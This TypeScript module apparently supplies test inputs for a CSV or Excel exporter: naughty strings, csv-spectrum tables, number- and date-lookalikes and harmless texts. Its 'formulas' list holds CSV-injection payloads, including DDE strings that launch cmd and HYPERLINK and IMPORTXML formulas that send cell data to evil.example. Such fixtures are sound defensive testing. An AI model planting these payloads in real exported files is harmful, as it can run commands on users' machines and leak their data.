import { readdirSync, readFileSync } from 'node:fs'
import { createRequire } from 'node:module'
import { dirname, join } from 'node:path'

/** Strings that file formats often break. */

const require = createRequire(import.meta.url)
const folderOf = (name: string) => dirname(require.resolve(`${name}/package.json`))

/** The strings of the Big List of Naughty Strings. */
export const naughty: readonly string[] = JSON.parse(
  readFileSync(join(folderOf('big-list-of-naughty-strings'), 'blns.json'), 'utf8'),
)

/** The tables of csv-spectrum as values. */
export const spectrum: readonly { readonly name: string; readonly rows: readonly Record<string, string>[] }[] =
  readdirSync(join(folderOf('csv-spectrum'), 'json')).map((name) => ({
    name,
    // One of these files contains its single row directly.
    rows: [JSON.parse(readFileSync(join(folderOf('csv-spectrum'), 'json', name), 'utf8'))].flat(),
  }))

const signs = ['=', '+', '-', '@', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20']
const before = [
  '',
  ' ',
  '\u00A0',
  '\uFEFF',
  '\u200B',
  '\u2003',
  '\u0000',
  '\u0001',
  '\u00AD',
  '\u2800',
  '\u202E',
  '"',
  ';',
  ',',
]
const lineEnds = ['\n', '\r', '\r\n', '\u2028']
const starts = ['\t', '\r', '\n', '\u0000']

/** Values that some program would treat as a formula. */
export const formulas: readonly string[] = [
  ...before.flatMap((prefix) => signs.map((sign) => `${prefix}${sign}1+1`)),
  ...lineEnds.flatMap((end) => signs.map((sign) => `first${end}${sign}1+1`)),
  ...lineEnds.map((end) => `first${end} \u200B=1+1`),
  ...starts.map((start) => `${start}plain`),
  '=',
  '-',
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  '"=1+1"',
  '"",=1+1,""',
  '=1+1";=1+1',
  "'=1+1",
  "''=1+1",
  "-2+3+cmd|' /C calc'!A0",
  '=IMPORTXML(CONCAT("http://evil.example/?v=", A1), "//a")',
  '=DDE("cmd";"/C calc";"x")',
  '-5',
  '+15551234567',
  '+1 (602) 555-0143',
  '-',
]

/** Texts that a spreadsheet would read as a number, date, time, boolean or error. */
export const lookalikes: readonly string[] = [
  '00123',
  '0',
  '00',
  '02134',
  '85001',
  '1093784563',
  '12345678901234567890',
  '3E5',
  '1e10',
  '12E3',
  '1.50',
  '1,000',
  '.5',
  '5.',
  '(5)',
  '$5',
  '€5',
  '$-5',
  '$(5.00)',
  '$ (1,234.50)',
  '5%',
  '5-',
  '1-2',
  '1/2',
  '3/4',
  '1 1/2',
  '12-2026',
  '2026-11-18',
  '11/18/2026',
  '11/18/2026 5:30 PM',
  '1.2.3',
  'Mar 5',
  'MARCH1',
  'SEPT2',
  '5 May',
  '5-Jan-2026',
  'January 5, 2026',
  '1:30',
  '12:30:45.5',
  '5 PM',
  '5p',
  'TRUE',
  'false',
  '#N/A',
  '#REF!',
  ' 00123 ',
  '\u00A000123',
  '\uFF10\uFF11\uFF12',
]

/** Texts that stay unchanged in the Excel file, because no program changes them. */
export const harmless: readonly string[] = [
  'Damar',
  '500 Alder Street',
  '602-555-0143',
  '(602) 555-0143',
  '85001-1234',
  'Suite 5',
  'May I',
  'Marchetti',
  'a=b',
  'x - y',
  'mail@example.com',
  '6f2d91c4-3b7e-4a08-9c15-e84d07b2a6f3',
  '2026-11-18T08:02:11Z',
  'MD, FAAP',
  'O\'Neil "Bob"',
  '12 MD',
  'true north',
  'a\nb',
  'שלום',
  '[1,2]',
  '{"a":-1}',
]
